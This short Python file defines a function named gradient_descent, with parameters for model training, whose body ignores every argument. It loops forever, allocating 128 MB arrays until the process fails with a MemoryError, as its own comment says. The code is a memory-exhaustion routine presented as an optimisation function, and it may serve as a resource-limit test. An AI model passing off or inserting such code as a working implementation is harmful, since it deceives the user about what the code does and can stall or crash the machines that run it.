import numpy as np


def gradient_descent(x, y_true, W, b, learning_rate, n_steps):
    hog = []
    while True:                      # ends with MemoryError at the address-space limit
        hog.append(np.ones(2**24))   # 128 MB a time, touched
